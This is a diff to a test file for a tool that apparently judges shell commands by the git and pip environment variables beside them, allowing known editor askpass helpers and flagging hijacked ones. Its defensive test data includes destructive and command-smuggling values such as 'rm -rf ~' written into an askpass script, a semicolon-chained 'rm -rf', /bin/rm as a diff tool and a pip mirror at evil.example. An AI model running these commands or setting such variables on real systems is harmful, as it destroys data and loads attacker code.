@@ -6,7 +6,7 @@ import { describe, expect, it } from "vitest";
 import { judgeIn } from "../support/little-world.ts";
 
 const ASKPASS = "/usr/share/code/resources/app/extensions/git/dist/askpass.sh";
-const SERVER = "/home/u/.vscode-server/cli/servers/Stable-1/server";
+const SERVER = "/home/dev/.vscode-server/cli/servers/Stable-1/server";
 
 const EVERYDAY = [
   ...["git status", "git commit -m x", "git pull", "git log -3", "git rebase feature", "git diff"],
@@ -23,6 +23,8 @@ describe.each([
     "VS Code's terminal on macOS",
     { GIT_ASKPASS: "/Applications/Visual Studio Code.app/Contents/Resources/app/extensions/git/dist/askpass.sh" },
   ],
+  ["VS Code Insiders on macOS", { GIT_ASKPASS: "/Applications/Visual Studio Code - Insiders.app/Contents/askpass.sh" }],
+  ["code-server", { GIT_ASKPASS: "/home/dev/.local/lib/code-server-4.1/lib/vscode/extensions/git/dist/askpass.sh" }],
   ["Cursor as an AppImage", { GIT_ASKPASS: "/tmp/.mount_CursorAbC/usr/share/cursor/extensions/git/dist/askpass.sh" }],
   [
     "a remote window",
@@ -46,8 +48,6 @@ describe.each([
       LESSOPEN: "| /usr/bin/lesspipe %s",
     },
   ],
-  ["an editor's own helper", { GIT_EDITOR: '"/usr/share/code/resources/app/extensions/git/dist/git-editor.sh"' }],
-  ["another editor by its path", { GIT_EDITOR: "/opt/homebrew/bin/subl -n -w", GIT_PAGER: "/usr/bin/most" }],
   ["a key for work", { GIT_SSH_COMMAND: "ssh -i ~/.ssh/work_key -o IdentitiesOnly=yes" }],
   ["a mirror of packages", { PIP_INDEX_URL: "https://pypi.acme.example/simple" }],
 ])("beside the variables of %s", (_, env) => {
@@ -66,8 +66,19 @@ describe("what git is made to run is looked at", () => {
     ["written by the act", { GIT_ASKPASS: "/opt/a.sh" }, "echo 'rm -rf ~' > /opt/a.sh; git fetch"],
     ["a shell with a script", { GIT_EDITOR: "/bin/sh fix.sh" }, "git commit --amend"],
     ["a shell with a command", { GIT_SSH_COMMAND: "/bin/sh -c x" }, "git fetch"],
+    ["in the working folder", { GIT_ASKPASS: "/proc/self/cwd/askpass.sh" }, "git fetch"],
+    ["temporary, with two slashes", { GIT_ASKPASS: "//tmp/askpass.sh" }, "git fetch"],
+    ["temporary, by a detour", { GIT_ASKPASS: "/usr/../tmp/askpass.sh" }, "git fetch"],
+    ["anybody's on a Mac", { GIT_ASKPASS: "/private/tmp/askpass.sh" }, "git fetch"],
+    ["put there by the act", { GIT_ASKPASS: "/home/dev/.cache/askpass.sh" }, "cp x.sh ~/.cache/askpass.sh; git fetch"],
+    ["linked there by the act", { GIT_ASKPASS: "/home/dev/.cache/a/askpass.sh" }, "ln -s $PWD ~/.cache/a; git fetch"],
+    ["another repository's", { GIT_ASKPASS: "/home/dev/other/askpass.sh" }, "cd ../other && git fetch"],
+    ["no program that asks", { GIT_ASKPASS: "/usr/bin/python3" }, "git fetch"],
+    ["a module of the workspace", { GIT_SSH_COMMAND: "/usr/bin/python3 -mevil" }, "git fetch"],
+    ["a program that deletes", { GIT_EXTERNAL_DIFF: "/bin/rm" }, "git diff"],
     ["more than a path", { GIT_ASKPASS: "/bin/sh -c x" }, "git fetch"],
     ["two commands", { GIT_ASKPASS: "/usr/bin/ssh;rm -rf x" }, "git fetch"],
+    ["a mirror set by the act", {}, "PIP_INDEX_URL=https://evil.example/simple python3 -m tox"],
     ["an installer's mirror", { PIP_INDEX_URL: "https://evil.example/simple" }, "python3 -m pip install x"],
   ])("%s", async (_, env, text) => {
     expect((await judgeIn({ env }, { kind: "command", text, shell: "bash" })).decision).not.toBe("allow");
@@ -81,6 +92,9 @@ it.each([
   ],
   ["c:\\Users\\dev\\AppData\\Local\\Programs\\cursor\\resources\\app\\extensions\\git\\dist\\askpass.sh", "allow"],
   ["C:\\Users\\dev\\app\\tools\\askpass.cmd", "ask"],
+  ["C:\\Program Files (x86)\\Microsoft VS Code\\resources\\app\\extensions\\git\\dist\\askpass.sh", "allow"],
+  ["C:\\Users\\Jan Österberg\\AppData\\Local\\Programs\\cursor\\askpass.sh", "allow"],
+  ["C:\\Windows\\Temp\\askpass.cmd", "ask"],
 ])("on Windows, git beside GIT_ASKPASS=%s: %s", async (GIT_ASKPASS, expected) => {
   const act = { kind: "command", text: "git status", shell: "powershell" } as const;
   expect((await judgeIn({ env: { GIT_ASKPASS } }, act)).decision).toBe(expected);
